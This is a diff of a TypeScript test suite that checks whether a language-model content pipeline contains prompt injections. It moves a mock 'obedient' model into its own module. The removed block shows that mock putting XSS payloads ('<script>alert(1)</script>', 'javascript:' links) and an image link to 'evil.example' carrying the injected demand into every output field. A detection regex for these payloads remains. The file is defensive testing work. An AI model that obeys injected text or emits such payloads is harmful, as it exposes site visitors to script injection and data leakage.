@@ -16,7 +16,8 @@ import { rewritePrompt } from '#providers/language-model/prompts/rewrite.ts';
 import { snippetsPrompt } from '#providers/language-model/prompts/snippets.ts';
 import { openAiModel } from '#test/factories/language-models.ts';
 import { type Injection, ownInjections, readPublishedInjections } from '#test/prompt-injections.ts';
-import type { ModelCall, ModelVendor, VendorReply } from '#test/vendors/model-vendor.ts';
+import type { ModelCall, ModelVendor } from '#test/vendors/model-vendor.ts';
+import { obedient } from '#test/vendors/obedient-model.ts';
 import { startOpenAiCompatible, vendorKey } from '#test/vendors/openai-compatible/openai-compatible.ts';
 import { starterArticle, starterImage, starterText } from './language-model-suite.ts';
 
@@ -127,25 +128,6 @@ const containment = (injections: readonly Injection[]): void => {
     });
   });
 };
-
-/** What a model answers that does as a stranger's text wants: in all its fields, and with all that could harm. */
-const obedient =
-  ({ text, demands }: Injection) =>
-  ({ task, blocks }: ModelCall): VendorReply => {
-    const harm = `${demands} <script>alert(1)</script> [x](javascript:alert(1)) ![y](https://evil.example/${demands})`;
-    const outputs = {
-      keywords: {
-        keywords: [demands, harm, ...Array.from({ length: 12 }, (_, i) => `${demands} casino ${i}`)],
-      },
-      relevance: {
-        ratings: (blocks.keywords ?? '').split('\n').map((_, i) => ({ id: i + 1, relevance: 100 })),
-      },
-      snippets: { titles: [demands, harm, text], descriptions: [harm, demands, text] },
-      rewrite: { markdown: `${harm}\n\n${text}` },
-      image: { purpose: 'informative', alt_text: harm, title: demands, caption: harm, description: text },
-    };
-    return { kind: 'answer', output: outputs[task] };
-  };
 
 const harmful = /<script|javascript:|evil\.example/i;
 
